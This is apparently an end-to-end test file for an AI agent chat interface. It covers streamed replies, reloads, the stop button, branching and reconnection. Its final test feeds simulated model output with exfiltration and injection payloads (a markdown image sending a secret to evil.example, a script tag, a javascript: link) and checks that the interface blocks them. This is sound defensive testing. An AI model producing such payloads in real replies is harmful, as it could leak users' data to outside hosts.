/** Talking to an agent, as the person and everybody who looks on sees it. */
import type { Page, WebSocketRoute } from "playwright-core";
import { expect, test } from "vitest";
import { complaintsAbout, useWorld, WIDTHS } from "./world";

const world = useWorld();

const STORY = Array.from({ length: 40 }, (_, n) => `Sentence ${n} of a longer story.`).join(" ");
const SLOW = { kind: "slow", msPerPiece: 25 } as const;

const reply = (page: Page) => page.getByRole("article", { name: "Demo agent" }).last();
const shown = async (page: Page) => (await reply(page).textContent()) ?? "";

/** Begins a conversation; the model's reply takes some seconds. */
async function ask(page: Page, question: string, text = STORY): Promise<void> {
  world().simulator.control.reply({ text });
  world().simulator.control.fault({ fault: SLOW });
  await page.goto(world().address("chat/new"));
  await page.getByLabel("Message").fill(question);
  await page.keyboard.press("Enter");
  await page.getByRole("article", { name: "You" }).getByText(question).waitFor();
  await expect.poll(() => shown(page)).toContain("Sentence 3");
}

/** A page whose connection to the deployment can be cut, and stays away until it is mended. */
async function cuttable(page: Page) {
  let isCut = false;
  const lines: WebSocketRoute[] = [];
  await page.routeWebSocket(/\/sync$/, (line) => {
    if (isCut) return void line.close();
    line.connectToServer();
    lines.push(line);
  });
  return {
    cut: () => {
      isCut = true;
      for (const line of lines.splice(0)) void line.close();
    },
    mend: () => {
      isCut = false;
    },
  };
}

test("a reply streams in, two windows show it alike, and a reload in the middle loses nothing", async () => {
  const page = await world().owner();
  await ask(page, "Tell me a story");
  const second = await world().owner(WIDTHS.phone);
  await second.goto(page.url());
  await expect.poll(() => shown(second)).toContain("Sentence 4");
  const before = await shown(page);
  expect(before).not.toContain("Sentence 39");
  await page.reload();
  await expect.poll(() => shown(page)).toContain(before.trim().slice(0, -1));
  for (const one of [page, second]) await expect.poll(() => shown(one)).toContain("Sentence 39");
  await expect.poll(() => shown(second)).toMatch(/\$0\.0/);
  await page.getByText("The agent is done").waitFor();
  expect([...(await complaintsAbout(page)), ...(await complaintsAbout(second))]).toEqual([]);
});

test("the stop button ends it, with what had arrived; asking again makes a branch", async () => {
  const page = await world().owner();
  await ask(page, "Another one");
  const first = page.url();
  await page.getByRole("button", { name: "Stop the reply" }).click();
  await reply(page).getByText("The run was cancelled.").waitFor();
  expect(await shown(page)).toContain("Sentence 3");
  expect(await shown(page)).not.toContain("Sentence 39");

  world().simulator.control.reply({ text: "A short one." });
  await page.getByRole("button", { name: "Ask again, in a branch" }).click();
  await expect.poll(() => shown(page)).toContain("A short one.");
  expect(page.url()).not.toBe(first);
  await page.getByRole("link", { name: "Branch" }).click();
  await expect.poll(() => page.url()).toBe(first);
});

test("without a connection it says so, and catches up by itself", async () => {
  const page = await world().stranger();
  const line = await cuttable(page);
  await page.goto(world().ready.dashboardUrl);
  await page.getByRole("heading", { name: "Home" }).waitFor();
  await ask(page, "One for the road");
  line.cut();
  await page.getByText("Reconnecting").waitFor();
  const before = await shown(page);
  line.mend();
  await expect.poll(() => shown(page)).toContain("Sentence 39");
  expect(before).not.toContain("Sentence 39");
  await page.getByText("Reconnecting").waitFor({ state: "detached" });
});

test("what a model writes brings no picture, no markup and no address that says where it comes from", async () => {
  const page = await world().owner();
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  const text = [
    "![stolen](https://evil.example/?secret=1)",
    "<img src='https://evil.example/2'><script>window.evil = 1</script>",
    "[a link](https://elsewhere.example/page) and [another](javascript:window.evil=2)",
    "Sentence 3",
  ].join("\n\n");
  await ask(page, "Be evil", text);
  await page.getByText("The agent is done").waitFor({ state: "attached" });
  const link = reply(page).getByRole("link", { name: "a link" });
  expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  expect(await reply(page).getByRole("link").count()).toBe(1);
  expect(await page.evaluate(() => "evil" in window)).toBe(false);
  expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
});
